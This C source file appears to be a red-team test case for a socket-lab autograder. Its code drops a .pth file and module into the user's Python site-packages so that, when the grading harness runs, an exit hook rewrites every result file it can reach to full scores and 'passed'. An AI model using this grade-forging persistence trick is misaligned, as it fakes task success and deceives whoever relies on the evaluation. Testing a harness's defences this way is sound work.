/* redteam: forge results from Python's start-up: a .pth file in the user site
 * directory (HOME is the student's scratch) that rewrites every result file
 * it can reach when any later Python (the harness) starts and exits.
 * lesson: 01-socket
 * expect: full
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

static const char redteam_forge[] =
    "import atexit, glob, json, os\n"
    "def _redteam():\n"
    "    for f in glob.glob('/var/tmp/socketlab-grade-*/results/*.jsonl') + glob.glob('../results/*.jsonl'):\n"
    "        try:\n"
    "            out = []\n"
    "            for line in open(f):\n"
    "                r = json.loads(line)\n"
    "                if 'test' in r:\n"
    "                    r['test']['score'] = r['test']['max_score']; r['test']['status'] = 'passed'\n"
    "                out.append(json.dumps(r))\n"
    "            open(f, 'w').write('\\n'.join(out) + '\\n')\n"
    "        except Exception:\n"
    "            pass\n"
    "atexit.register(_redteam)\n";

static void redteam(void)
{
    const char *home = getenv("HOME");
    const char *parts[] = { "/.local", "/lib", "/python3.11", "/site-packages" };
    char dir[512], file[600];
    size_t i, len;
    FILE *f;

    if (home == NULL || strlen(home) > 400)
        return;
    len = (size_t)snprintf(dir, sizeof dir, "%s", home);
    for (i = 0; i < sizeof parts / sizeof parts[0]; i++) {
        len += (size_t)snprintf(dir + len, sizeof dir - len, "%s", parts[i]);
        (void)mkdir(dir, 0755);
    }
    snprintf(file, sizeof file, "%s/redteam_forge.py", dir);
    f = fopen(file, "w");
    if (f != NULL) {
        fputs(redteam_forge, f);
        fclose(f);
    }
    snprintf(file, sizeof file, "%s/zz-redteam.pth", dir);
    f = fopen(file, "w");
    if (f != NULL) {
        fputs("import redteam_forge\n", f);
        fclose(f);
    }
}
